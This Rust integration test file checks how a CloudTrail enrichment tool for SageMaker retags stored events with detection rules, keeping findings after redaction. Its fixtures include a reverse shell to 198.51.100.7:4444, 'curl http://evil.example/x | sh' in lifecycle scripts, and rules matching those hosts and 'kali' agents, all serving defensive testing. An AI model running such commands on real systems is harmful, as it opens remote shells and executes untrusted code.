//! The retag: stored documents get the verdict of other rules, and none of them knows less than before.

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{Method, StatusCode, Uri, header};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use sagetrail::config::{RedactionConfig, RulesConfig, Scope};
use sagetrail::enrich::redact::FingerprintKey;
use sagetrail::enrich::rules::BrokenRules;
use sagetrail::enrich::{Enriched, Enricher, Origin, ReEnriched, StoredEvent, enrich, re_enrich};
use sagetrail::memory::Known;
use sagetrail::names::Names;
use serde_json::{Value, json};
use time::macros::datetime;

use crate::support::search::Search;
use crate::support::{Stack, examples, trail};

const NOW: time::OffsetDateTime = datetime!(2026-11-02 00:00 UTC);
/// What stands in the place of a secret.
const MARKER: &str = "[redacted:0123456789abcdef]";

fn enricher() -> Enricher {
    let rules = RulesConfig { placeholders: examples::all_values(), ..RulesConfig::default() };
    let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
    Enricher::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap()
}

fn document_of(record: &Value, enricher: &Enricher) -> Value {
    let origin = Origin { path: "s3://b/k", written_at: None, now: NOW };
    match enrich(record.to_string().as_bytes(), origin, enricher) {
        Enriched::Selected { document, .. } => serde_json::from_slice(&document.source).unwrap(),
        other => panic!("{other:?}: {record}"),
    }
}

fn anew(document: &Value, enricher: &Enricher) -> ReEnriched {
    let kept = StoredEvent {
        original: document["event"]["original"].as_str().unwrap(),
        path: "s3://b/k",
        timestamp: NOW,
        created: None,
        ingested: NOW,
        retagged: NOW,
        document,
    };
    re_enrich(&kept, enricher, &Known::off()).unwrap()
}

/// The texts at a path, of a list or alone.
fn texts(document: &Value, path: &str) -> Vec<String> {
    match document.pointer(path) {
        Some(Value::Array(values)) => values.iter().map(Value::to_string).collect(),
        Some(Value::Null) | None => Vec::new(),
        Some(value) => vec![value.to_string()],
    }
}

/// Replaces each text, as redaction would if each were a secret.
fn redact_all(value: &mut Value) {
    match value {
        Value::Object(object) => object.values_mut().for_each(redact_all),
        Value::Array(elements) => elements.iter_mut().for_each(redact_all),
        Value::String(text) => MARKER.clone_into(text),
        _ => {}
    }
}

/// The document as one would have it whose text lost every parameter of the call.
fn with_a_lost_request(document: &Value) -> Value {
    let mut document = document.clone();
    let mut original: Value = serde_json::from_str(document["event"]["original"].as_str().unwrap()).unwrap();
    redact_all(&mut original["requestParameters"]);
    document["event"]["original"] = original.to_string().into();
    document
}

/// What a document knows and must not forget.
const KNOWN: [&str; 12] = [
    "/rule/id",
    "/threat/technique/id",
    "/sagemaker/categories",
    "/sagemaker/lifecycle/script",
    "/sagemaker/lifecycle/hook",
    "/sagemaker/lifecycle/indicators",
    "/sagemaker/policy/principals",
    "/sagemaker/instance/type",
    "/sagemaker/image/uri",
    "/sagemaker/resource/type",
    "/related/hosts",
    "/related/ip",
];

#[test]
fn a_document_whose_text_lost_the_request_keeps_each_rule_script_indicator_and_fact() {
    let enricher = enricher();
    let mut carried = 0;
    for example in examples::all() {
        let document = document_of(&example.record, &enricher);
        let lost = with_a_lost_request(&document);
        let first = anew(&lost, &enricher);
        // A second time, over the result of the first.
        let second = anew(&first.source, &enricher);
        for path in KNOWN {
            let before = texts(&document, path);
            for again in [&first.source, &second.source] {
                let after = texts(again, path);
                let forgotten: Vec<_> = before.iter().filter(|text| !after.contains(text)).collect();
                assert!(forgotten.is_empty(), "{}: {path} forgets {forgotten:?}", example.path.display());
            }
        }
        let named = texts(&first.source, "/sagemaker/rules/carried");
        assert_eq!(named.len(), first.carried.len());
        carried += usize::from(!first.carried.is_empty());
    }
    assert!(carried > 50, "{carried} examples have something that is carried");
}

#[test]
fn a_document_whose_text_shows_everything_is_what_the_rules_of_now_say() {
    let enricher = enricher();
    for example in examples::all() {
        let mut document = document_of(&example.record, &enricher);
        // A marker may be inside of what is packed, where only the script shows it, or that it was cut.
        if document.to_string().contains("[redacted:") || document["sagemaker"].get("cut").is_some() {
            continue;
        }
        let mut other = anew(&document, &enricher);
        assert_eq!(other.carried, [""; 0], "{}", example.path.display());
        other.source["sagemaker"]["rules"].as_object_mut().unwrap().remove("retagged");
        for source in [&mut document, &mut other.source] {
            source["@timestamp"] = Value::Null;
        }
        assert_eq!(other.source, document, "{}", example.path.display());
    }
}

/// A rule of a site that asks one question.
fn rule(id: &str, question: &str) -> String {
    format!(
        "title: Rule {id}\nid: 00000000-0000-4000-8000-00000000000{id}\nlevel: high\nlogsource:\n  product: aws\n\
         detection:\n  s:\n    {question}\n  condition: s\n"
    )
}

#[test]
fn what_a_text_still_shows_is_judged_anew_and_what_it_lost_is_not() {
    let folder = tempfile::tempdir().unwrap();
    let questions = [
        ("1", "requestParameters.environment.token|startswith: 'AKIA'", true),
        ("2", "requestParameters.roleArn|endswith: 'Nobody'", false),
        ("3", "sagemaker.lifecycle.script|contains: 'swordfish'", true),
        ("4", "requestParameters.absent.token: 'x'", false),
        ("5", "eventName: 'DeleteNotebookInstance'", false),
        ("6", "requestParameters.environment|contains: 'AKIA'", true),
        ("7", "userAgent|contains: 'kali'", false),
    ];
    for (id, question, _) in questions {
        std::fs::write(folder.path().join(format!("{id}.yml")), rule(id, question)).unwrap();
    }
    std::fs::write(folder.path().join("8.yml"), rule("8", "- 'swordfish'")).unwrap();
    let rules = RulesConfig { folder: Some(folder.path().to_owned()), ..RulesConfig::default() };
    let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
    let enricher = Enricher::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap();
    let id = |id: &str| format!("00000000-0000-4000-8000-00000000000{id}");
    let record = |token: &str, script: &str| {
        let mut record = trail::record("111122223333", 0);
        record["requestParameters"]["environment"] = json!({ "token": token });
        record["requestParameters"]["algorithmSpecification"] =
            json!({"containerEntrypoint": ["sh", "-c", script]});
        record
    };
    let ids = |wanted: &dyn Fn(bool) -> bool| -> Vec<String> {
        let known = questions.iter().filter(|(.., lost)| wanted(*lost)).map(|(number, ..)| id(number));
        known.collect()
    };
    let carried = |record: &Value, before: &[String]| {
        let mut document = document_of(record, &enricher);
        // As if it had been written before redaction knew these, and all of them had matched.
        document["event"]["original"] = record.to_string().into();
        document["rule"]["id"] = json!(before);
        let after = anew(&document, &enricher);
        let matched = texts(&after.source, "/rule/id").join(" ");
        for rule in &after.carried {
            assert!(matched.contains(rule) || rule.starts_with("sagemaker."), "{rule} is not in {matched}");
        }
        after.carried.into_iter().filter(|it| before.contains(it)).collect::<Vec<_>>()
    };
    let all: Vec<String> = ids(&|_| true).into_iter().chain([id("8")]).collect();
    let lost: Vec<String> = ids(&|lost| lost).into_iter().chain([id("8")]).collect();
    assert_eq!(carried(&record(MARKER, &format!("echo {MARKER}")), &all), lost);
    assert_eq!(carried(&record("nothing", "echo"), &all), [""; 0], "nothing is gone");
    let gone = ["99999999-0000-4000-8000-000000000000".to_owned()];
    assert_eq!(carried(&record(MARKER, "echo"), &gone), [""; 0], "the rule is there no more");
}

#[test]
fn a_new_rule_hunts_in_a_script_that_only_the_document_shows() {
    let folder = tempfile::tempdir().unwrap();
    let question = "sagemaker.lifecycle.script|contains: 'evil.example'";
    std::fs::write(folder.path().join("1.yml"), rule("1", question)).unwrap();
    let rules = RulesConfig { folder: Some(folder.path().to_owned()), ..RulesConfig::default() };
    let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
    let hunting = Enricher::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap();
    let mut record = trail::record("111122223333", 0);
    let script = BASE64_STANDARD.encode("curl http://evil.example/x | sh");
    record["eventName"] = "CreateNotebookInstanceLifecycleConfig".into();
    record["requestParameters"] = json!({"onStart": [{ "content": script }]});
    let document = with_a_lost_request(&document_of(&record, &enricher()));
    assert!(!texts(&document, "/rule/name").join(" ").contains("Rule 1"));
    let after = anew(&document, &hunting).source;
    assert!(texts(&after, "/rule/name").join(" ").contains("Rule 1"), "{after}");
    assert!(after["message"].as_str().unwrap().contains("Rule 1"), "{after}");
}

/// The command with the servers of the test; it ships every record.
fn sagetrail(stack: &Stack, opensearch: &str, arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_sagetrail"));
    command
        .args(arguments)
        .env("AWS_ENDPOINT_URL", &stack.aws)
        .env("SAGETRAIL__SINK__URL", opensearch)
        .env("SAGETRAIL__SELECT__SCOPE", "all")
        .env("SAGETRAIL__REDACTION__KEY", "0123456789abcdef0123456789abcdef")
        .stdin(Stdio::null());
    command
}

fn report(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| {
        let complaint = String::from_utf8_lossy(&output.stderr);
        panic!("{error}: {}\n{complaint}", String::from_utf8_lossy(&output.stdout))
    })
}

/// Ships records from a file, without any rule of the site.
fn ship(stack: &Stack, folder: &Path, records: &[Value]) {
    let file = folder.join("old.json.gz");
    std::fs::write(&file, trail::file(records)).unwrap();
    let arguments = ["replay", "--format", "json", file.to_str().unwrap()];
    let shipped = report(&sagetrail(stack, &stack.opensearch, &arguments).output().unwrap());
    assert_eq!(shipped["created"], records.len(), "{shipped}");
}

/// Retags the documents of the account with a rule that matches the first record of a trail.
async fn hunt(stack: &Stack, opensearch: &str, folder: &Path, account: &str) -> (Option<i32>, Value) {
    let rules = folder.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("hunt.yml"), HUNT).unwrap();
    // What was just shipped becomes visible to searches.
    documents(stack, account).await;
    let arguments = ["replay", "--retag", "--format", "json", "--account", account];
    let mut command = sagetrail(stack, opensearch, &arguments);
    command.env("SAGETRAIL__RULES__FOLDER", &rules);
    let output = tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap();
    (output.status.code(), report(&output))
}

async fn documents(stack: &Stack, account: &str) -> Vec<Value> {
    let query = json!({"term": {"cloud.account.id": account}});
    let found = Search::new(&stack.opensearch).find("sagetrail-events", query, &["*"]).await;
    found.into_values().flatten().map(|hit| hit.source).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_that_redaction_took_whole_out_of_the_text_keeps_its_findings_and_its_host() {
    let Some(stack) = Stack::running() else { return };
    let account = "600000000009";
    let folder = tempfile::tempdir().unwrap();
    let script = "#!/bin/bash\nexport API_TOKEN=hunter2hunter2hunter2\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n\
                  curl -s http://evil.example/x | sh\n";
    let mut record = trail::record(account, 0);
    record["eventName"] = "CreateNotebookInstanceLifecycleConfig".into();
    record["requestParameters"] = json!({
        "notebookInstanceLifecycleConfigName": "setup", "onStart": [{"content": BASE64_STANDARD.encode(script)}]
    });
    let mut plain = trail::record(account, 4);
    plain["eventName"] = "CreateNotebookInstanceLifecycleConfig".into();
    plain["requestParameters"] = json!({
        "notebookInstanceLifecycleConfigName": "plain", "onStart": [{"content": BASE64_STANDARD.encode("curl -s http://plain.example/x | sh")}]
    });
    ship(&stack, folder.path(), &[record, plain]);
    // As documents are that were written when a script with a secret was replaced as a whole.
    let replace = json!({
        "query": {"bool": {"filter": [{"term": {"cloud.account.id": account}}, {"term": {"related.hosts": "evil.example"}}]}},
        "script": {"source": "ctx._source.event.original = params.original", "params": {"original": json!({
            "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateNotebookInstanceLifecycleConfig",
            "recipientAccountId": account, "awsRegion": "eu-central-1",
            "requestParameters": {"notebookInstanceLifecycleConfigName": "setup", "onStart": [{"content": MARKER}]}
        }).to_string()}}
    });
    let search = Search::new(&stack.opensearch);
    search.request("POST", "sagetrail-events*/_refresh", None).await;
    let path = "sagetrail-events/_update_by_query?refresh=true";
    let (status, answer) = search.request("POST", path, Some(replace)).await;
    assert_eq!((status, &answer["updated"]), (200, &json!(1)), "{answer}");
    let before = documents(&stack, account).await;

    let (code, summary) = hunt(&stack, &stack.opensearch, folder.path(), account).await;
    assert_eq!(
        (code, &summary["retagged"], &summary["changed"], &summary["carried"]),
        (Some(0), &json!(2), &json!(0), &json!(1)),
        "{summary}"
    );
    for (before, after) in before.iter().zip(&documents(&stack, account).await) {
        for path in KNOWN.iter().chain(&["/sagemaker/findings", "/sagemaker/severity"]) {
            assert_eq!(texts(after, path), texts(before, path), "{path}");
        }
        assert!(!texts(after, "/sagemaker/lifecycle/script").is_empty(), "{after}");
        assert!(!texts(after, "/sagemaker/findings").is_empty(), "{after}");
        let is_lost = after["event"]["original"].as_str().unwrap().contains(MARKER);
        assert_eq!(after.pointer("/sagemaker/rules/carried").is_some(), is_lost, "{after}");
    }
}

/// Somebody who writes to each document between its being read and being written by a retag.
struct Rival {
    opensearch: String,
    http: reqwest::Client,
    /// Bulks that are answered after the rival was there first.
    times: usize,
    bulks: AtomicUsize,
}

impl Rival {
    async fn between(stack: &Stack, times: usize) -> (String, Arc<Self>) {
        let rival = Arc::new(Self {
            opensearch: stack.opensearch.clone(),
            http: reqwest::Client::new(),
            times,
            bulks: AtomicUsize::new(0),
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let router = Router::new().fallback(pass_on).with_state(Arc::clone(&rival));
        tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
        (url, rival)
    }

    async fn send(&self, method: Method, path: &str, body: Bytes) -> (StatusCode, Bytes) {
        let request = self.http.request(method, format!("{}{path}", self.opensearch));
        let kind = if path.starts_with("/_bulk") { "application/x-ndjson" } else { "application/json" };
        let answer = request.header(header::CONTENT_TYPE, kind).body(body).send().await.unwrap();
        (answer.status(), answer.bytes().await.unwrap())
    }

    /// Writes a note on each document of a bulk.
    async fn write_first(&self, bulk: &[u8], number: usize) {
        let lines = std::str::from_utf8(bulk).unwrap().lines().step_by(2);
        for action in lines.map(|line| serde_json::from_str::<Value>(line).unwrap()) {
            let (index, id) = (action["index"]["_index"].as_str(), action["index"]["_id"].as_str());
            let path = format!("/{}/_update/{}?refresh=true", index.unwrap(), id.unwrap());
            let note = json!({"doc": {"labels": {format!("note_{number}"): "mine"}, "tags": ["triaged"]}});
            let (status, answer) = self.send(Method::POST, &path, note.to_string().into()).await;
            assert!(status.is_success(), "{answer:?}");
        }
    }
}

async fn pass_on(
    State(rival): State<Arc<Rival>>,
    method: Method,
    uri: Uri,
    body: Bytes,
) -> (StatusCode, [(header::HeaderName, &'static str); 1], Bytes) {
    let path = uri.path_and_query().unwrap().as_str();
    if path.starts_with("/_bulk") {
        let number = rival.bulks.fetch_add(1, Ordering::SeqCst);
        if number < rival.times {
            rival.write_first(&body, number).await;
        }
    }
    let (status, answer) = rival.send(method, path, body).await;
    (status, [(header::CONTENT_TYPE, "application/json")], answer)
}

#[tokio::test(flavor = "multi_thread")]
async fn what_somebody_writes_between_reading_and_writing_is_kept_and_the_document_is_retagged_all_the_same()
{
    let Some(stack) = Stack::running() else { return };
    let account = "600000000010";
    let folder = tempfile::tempdir().unwrap();
    ship(&stack, folder.path(), &[trail::record(account, 0), trail::record(account, 2)]);
    let (url, rival) = Rival::between(&stack, 2).await;
    let (code, summary) = hunt(&stack, &url, folder.path(), account).await;
    assert_eq!(
        (code, &summary["retagged"], &summary["changed"], &summary["conflicts"]),
        (Some(0), &json!(2), &json!(1), &json!(0)),
        "{summary}"
    );
    assert_eq!(rival.bulks.load(Ordering::SeqCst), 3, "each conflict is repeated once");
    let after = documents(&stack, account).await;
    for document in &after {
        assert_eq!(document["labels"], json!({"note_0": "mine", "note_1": "mine"}), "{document}");
        assert!(texts(document, "/tags").contains(&json!("triaged").to_string()), "{document}");
        assert_eq!(document["sagemaker"]["rules"]["version"], summary["version"]);
    }
    let hunted = after.iter().filter(|document| document["rule"]["name"].to_string().contains("A hunt"));
    assert_eq!(hunted.count(), 1);
}

/// Takes out what memory says, which `enrich` always has and a cluster only once its script is installed.
fn forget(document: &mut Value) {
    let ours = document["sagemaker"].as_object_mut().unwrap();
    for field in ["context", "first", "usual", "touches"] {
        ours.remove(field);
    }
    for (part, fields) in [
        ("actor", &["chain", "origin", "works_for", "execution_role"][..]),
        ("resource", &["created_by", "created_at", "owner", "is_owner", "age", "configuration", "tags"]),
    ] {
        let Some(part) = ours.get_mut(part).and_then(Value::as_object_mut) else { continue };
        part.retain(|name, _| !fields.contains(&name.as_str()));
    }
}

const HUNT: &str = "title: A hunt\nid: 7c4a7c6e-6c3a-4a9a-9a53-2b1a2f0c6a12\nlevel: high\nlogsource:\n  product: aws\n\
    detection:\n  s:\n    eventName: CreateTrainingJob\n    requestParameters.trainingJobName: job-0\n  condition: s\n";

#[tokio::test(flavor = "multi_thread")]
async fn a_new_rule_hunts_in_old_documents_which_stay_what_they_were_otherwise() {
    let Some(stack) = Stack::running() else { return };
    let account = "600000000008";
    let folder = tempfile::tempdir().unwrap();
    let rules = folder.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    let mut records: Vec<Value> = (0..6).map(|number| trail::record(account, number)).collect();
    records[0]["requestParameters"]["environment"] =
        json!({"API_TOKEN": "hunter2hunter2", "password": "swordfish1"});
    let file = folder.path().join("old.json.gz");
    std::fs::write(&file, trail::file(&records)).unwrap();
    let path = file.to_str().unwrap();
    let with_rules = |arguments: &[&str]| {
        let mut command = sagetrail(&stack, &stack.opensearch, arguments);
        command.env("SAGETRAIL__REDACTION__KEY", "0123456789abcdef0123456789abcdef");
        command.env("SAGETRAIL__RULES__FOLDER", &rules);
        command.output().expect("the binary runs")
    };
    let search = Search::new(&stack.opensearch);
    let documents = async || {
        search.find("sagetrail-events", json!({"term": {"cloud.account.id": account}}), &["*"]).await
    };
    assert_eq!(report(&with_rules(&["replay", "--format", "json", path]))["created"], 6);
    let before = documents().await;

    std::fs::write(rules.join("hunt.yml"), HUNT).unwrap();
    let retag = ["replay", "--retag", "--format", "json", "--account", account];
    let summary = report(&with_rules(&retag));
    assert_eq!(
        (&summary["outdated"], &summary["retagged"], &summary["changed"]),
        (&json!(6), &json!(6), &json!(1))
    );
    let after = documents().await;
    assert!(before.keys().eq(after.keys()), "each document keeps its id");
    let offline = with_rules(&["enrich", path]).stdout;
    for line in String::from_utf8(offline).unwrap().lines() {
        let mut fresh: Value = serde_json::from_str(line).unwrap();
        let id = fresh["_id"].as_str().unwrap();
        let (old, mut new) = (before[id][0].source.clone(), after[id][0].source.clone());
        for kept in ["ingested", "created", "original"] {
            assert_eq!(new["event"][kept], old["event"][kept], "{kept}");
        }
        assert_eq!(new["sagemaker"]["rules"]["version"], summary["version"]);
        assert_ne!(new["sagemaker"]["rules"]["version"], old["sagemaker"]["rules"]["version"]);
        assert!(new["sagemaker"]["rules"]["retagged"].take().is_string());
        // What is left is what these rules would have written at first.
        for document in [&mut new, &mut fresh["_source"]] {
            let event = document["event"].as_object_mut().unwrap();
            event.remove("ingested");
            event.remove("created");
            document["sagemaker"]["rules"].as_object_mut().unwrap().remove("retagged");
            forget(document);
        }
        assert_eq!(new, fresh["_source"]);
    }
    let hunted =
        after.values().flatten().filter(|hit| hit.source["rule"]["name"].to_string().contains("A hunt"));
    assert_eq!(hunted.count(), 1);
    assert!(!format!("{after:?}").contains("hunter2hunter2"));

    let again = report(&with_rules(&retag));
    assert_eq!((&again["outdated"], &again["retagged"]), (&json!(0), &json!(0)), "{again}");
}
